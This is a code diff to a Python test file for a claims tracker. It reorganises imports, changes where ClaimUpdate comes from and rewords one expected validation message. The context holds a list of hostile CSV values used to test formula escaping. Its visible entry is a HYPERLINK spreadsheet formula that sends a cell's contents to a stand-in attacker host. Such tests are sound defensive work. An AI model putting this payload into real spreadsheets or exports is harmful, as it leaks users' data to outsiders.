@@ -13,11 +13,11 @@ from hypothesis import strategies as st
 from sqlmodel import Session, func, select
 
 from tracker import queries, services
-from tracker.csvsafe import escape_cell, is_formula_safe, unescape_cell
 from tracker.errors import ImportFailed
-from tracker.exporters import CSV_COLUMNS, export_csv_bytes
-from tracker.importers import import_claims_csv
-from tracker.models import Claim, Event
+from tracker.interchange.csv_export import CSV_COLUMNS, export_csv_bytes
+from tracker.interchange.csvsafe import escape_cell, is_formula_safe, unescape_cell
+from tracker.models import Claim, ClaimUpdate, Event
+from tracker.services import import_claims_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -52,7 +52,7 @@ def set_claim_text(session: Session, claim_id: int, text: str) -> None:
     services.update_claim(
         session=session,
         claim_id=claim_id,
-        changes=services.ClaimUpdate(claim=text),
+        changes=ClaimUpdate(claim=text),
         actor="editor",
         expected_version=queries.get_claim(session=session, claim_id=claim_id).version,
     )
@@ -187,7 +187,7 @@ def test_bad_rows_are_all_reported_and_nothing_is_written(seeded: Session) -> No
     assert "line 2, field 'status', value 'done': unknown status; allowed: unreviewed" in message
     assert "line 3, field 'claim_id', value '999999': no such claim" in message
     assert "line 4, field 'version', value '7': claim 3 is at version 1" in message
-    assert "line 6: verify needs at least one source" in message
+    assert "line 6: verify needs at least one supporting source" in message
     assert "line 7, field 'claim_type', value 'rumour': unknown claim_type" in message
     assert table_counts(seeded) == before
     assert queries.get_claim(session=seeded, claim_id=4).claim != "ok edit that must not land"
